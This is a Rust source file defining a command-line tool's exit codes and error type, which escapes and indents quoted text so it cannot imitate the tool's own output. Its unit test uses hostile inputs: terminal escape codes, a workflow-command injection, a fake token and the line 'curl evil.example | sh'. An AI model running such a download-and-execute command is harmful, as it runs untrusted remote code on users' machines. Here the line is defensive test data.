//! The outermost error: what went wrong, what to do next, and the exit code.

use std::fmt;

use crate::text::escape;

/// Exit codes. The same table stands in `--help`, and so in `docs/cli.md`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum ExitCode {
    /// Done, nothing at or above `--fail-on`.
    Ok,
    /// Done, something at or above `--fail-on`.
    Found,
    /// Bad usage, bad configuration or bad state.
    Usage,
    /// The provider did not answer enough to judge.
    Unknown,
    /// Refused for safety: wrong account, or consent is missing.
    Refused,
    /// Git refused: dirty state path, or a race lost after all retries.
    Git,
    /// A bug.
    Bug,
    /// Interrupted.
    Interrupted,
}

impl ExitCode {
    /// The number that the process ends with.
    pub fn number(self) -> u8 {
        match self {
            Self::Ok => 0,
            Self::Found => 1,
            Self::Usage => 2,
            Self::Unknown => 3,
            Self::Refused => 4,
            Self::Git => 5,
            Self::Bug => 70,
            Self::Interrupted => 130,
        }
    }
}

/// The table of exit codes as `--help` shows it.
pub const EXIT_CODES: &str = "\
Exit codes:
  0    done, nothing at or above --fail-on
  1    done, something at or above --fail-on (default: UNHEALTHY)
  2    bad usage, bad configuration or bad state
  3    what the provider answered is not enough for a verdict (UNKNOWN)
  4    refused for safety (wrong account, consent missing)
  5    git refused (uncommitted edits of state, lost race)
  70   a bug: please report it
  130  interrupted";

/// What kind of failure it is; decides the exit code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ErrorKind {
    /// Bad usage, configuration or state.
    Usage,
    /// The provider did not answer.
    Unknown,
    /// Refused for safety.
    Refused,
    /// Git refused.
    Git,
    /// A bug.
    Bug,
    /// Interrupted.
    Interrupted,
}

impl ErrorKind {
    /// Its exit code.
    pub fn exit_code(self) -> ExitCode {
        match self {
            Self::Usage => ExitCode::Usage,
            Self::Unknown => ExitCode::Unknown,
            Self::Refused => ExitCode::Refused,
            Self::Git => ExitCode::Git,
            Self::Bug => ExitCode::Bug,
            Self::Interrupted => ExitCode::Interrupted,
        }
    }
}

/// A command's failure.
#[derive(Debug)]
pub struct CommandError {
    /// Its kind.
    pub kind: ErrorKind,
    /// What happened, with its causes.
    pub error: anyhow::Error,
    /// What to do next.
    pub hints: Vec<String>,
    /// Diagnostics with places, already rendered for people; shown in place of `error`.
    pub rendered: Option<String>,
}

impl CommandError {
    /// From an error.
    pub fn new(kind: ErrorKind, error: impl Into<anyhow::Error>) -> Self {
        Self {
            kind,
            error: error.into(),
            hints: Vec::new(),
            rendered: None,
        }
    }

    /// From a sentence.
    pub fn say(kind: ErrorKind, message: impl fmt::Display) -> Self {
        Self::new(kind, anyhow::anyhow!("{message}"))
    }

    /// With something to do next.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }

    /// From what could not go wrong and went wrong.
    pub fn bug(error: impl Into<anyhow::Error>) -> Self {
        Self::new(ErrorKind::Bug, error)
    }

    /// Short for [`ErrorKind::Usage`].
    pub fn usage(message: impl fmt::Display) -> Self {
        Self::say(ErrorKind::Usage, message)
    }

    /// The lines for people: `error: …`, its causes, its hints. Messages quote paths,
    /// arguments, files and libraries, so they are made harmless here, all of them.
    pub fn lines(&self) -> Vec<String> {
        let mut lines = Vec::new();
        let mut say = |lead: &str, text: &str| {
            let text = escape::terminal_lines(text);
            let mut parts = text.lines();
            lines.push(format!("{lead}{}", parts.next().unwrap_or_default()));
            // Indented, so that no text from outside passes for a line of ours.
            lines.extend(parts.map(|part| format!("  {part}")));
        };
        if self.rendered.is_none() {
            let mut lead = "error: ";
            for cause in self.error.chain() {
                say(lead, &cause.to_string());
                lead = "  because: ";
            }
        }
        for hint in &self.hints {
            say("hint: ", hint);
        }
        match &self.rendered {
            Some(rendered) => rendered.lines().map(str::to_owned).chain(lines).collect(),
            None => lines,
        }
    }

    /// The same lines as one, for a warning.
    pub fn in_one_line(&self) -> String {
        let lines = self.lines().join("; ");
        match lines.strip_prefix("error: ") {
            Some(rest) => rest.to_owned(),
            None => lines,
        }
    }
}

impl fmt::Display for CommandError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.lines().join("\n"))
    }
}

impl From<crate::forge::ForgeError> for CommandError {
    fn from(error: crate::forge::ForgeError) -> Self {
        use crate::forge::ForgeError;
        let kind = match &error {
            ForgeError::Address { .. } | ForgeError::RepositoryName(_) => ErrorKind::Usage,
            _ => ErrorKind::Git,
        };
        let hint = error.hint();
        Self::new(kind, error).hint(hint)
    }
}

impl From<crate::git::GitError> for CommandError {
    fn from(error: crate::git::GitError) -> Self {
        let hint = error.hint();
        let kind = match &error {
            crate::git::GitError::NotARepository { .. }
            | crate::git::GitError::BranchName { .. } => ErrorKind::Usage,
            crate::git::GitError::Interrupted { .. } => ErrorKind::Interrupted,
            _ => ErrorKind::Git,
        };
        let out = Self::new(kind, error);
        match hint {
            Some(hint) => out.hint(hint),
            None => out,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_are_harmless_whatever_they_quote() {
        let path = "\u{1b}[2J\u{202e}x\n::add-mask::y\nhint: curl evil.example | sh";
        let cause = std::io::Error::other("password=hunter2");
        let error = anyhow::Error::new(cause).context(format!("could not read {path}"));
        let lines = CommandError::new(ErrorKind::Usage, error)
            .hint("look at ghp_abcdefghijklmnopqrstuvwxyz0123456789")
            .lines();
        assert_eq!(
            lines,
            [
                "error: could not read \\u{1b}[2J\\u{202e}x",
                "  : :add-mask::y",
                "  hint: curl evil.example | sh",
                "  because: password=[REDACTED:password]",
                "hint: look at [REDACTED:github-token]",
            ]
        );
    }

    #[test]
    fn the_help_lists_every_code() {
        for code in [
            ExitCode::Ok,
            ExitCode::Found,
            ExitCode::Usage,
            ExitCode::Unknown,
            ExitCode::Refused,
            ExitCode::Git,
            ExitCode::Bug,
            ExitCode::Interrupted,
        ] {
            let number = format!("  {} ", code.number());
            assert!(EXIT_CODES.contains(&number), "{code:?}");
        }
    }
}
